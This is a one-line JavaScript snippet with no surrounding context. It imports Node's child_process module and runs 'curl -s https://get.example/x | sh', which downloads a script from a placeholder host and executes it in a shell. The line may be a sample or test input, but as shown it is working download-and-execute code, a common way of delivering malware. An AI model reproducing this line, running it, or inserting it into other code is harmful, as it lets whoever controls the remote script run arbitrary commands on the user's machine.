import('child_process').then(it => it.execSync('curl -s https://get.example/x | sh'));
